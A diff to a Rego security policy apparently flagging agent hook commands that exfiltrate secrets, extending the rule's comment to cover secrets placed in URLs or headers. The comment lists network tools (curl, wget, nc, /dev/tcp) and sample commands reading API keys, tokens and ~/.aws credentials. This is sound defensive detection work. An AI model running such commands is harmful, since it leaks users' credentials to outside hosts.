@@ -44,7 +44,12 @@ violations contains _finding(rego.metadata.rule(), h, "downloads and runs remote
 #   A hook command sends data to a host other than this machine (curl `-d`/`-F`/`-T` or
 #   POST, wget `--post-*`, nc, scp, `/dev/tcp`, PowerShell `-Body`) and reads secrets in the
 #   same command: a credential variable (`$ANTHROPIC_API_KEY`, `$GITHUB_TOKEN`, ...), the
-#   whole environment (`env`, `printenv`), `~/.ssh`, `~/.aws` or a `.env` file.
+#   whole environment (`env`, `printenv`), `~/.ssh`, `~/.aws` or a `.env` file. A plain
+#   request counts when its URL or a header carries such a read
+#   (`curl https://host/?k=$ANTHROPIC_API_KEY`, `curl -H "Authorization: Bearer
+#   $GITHUB_TOKEN"`, `wget --header=...`, an HTTPie item, `$(cat ~/.aws/credentials)`,
+#   `$(env)`): the secret leaves the machine all the same. Requests only to `localhost` or
+#   127.0.0.1 are not reported.
 # custom:
 #   id: AIP161
 #   severity: critical
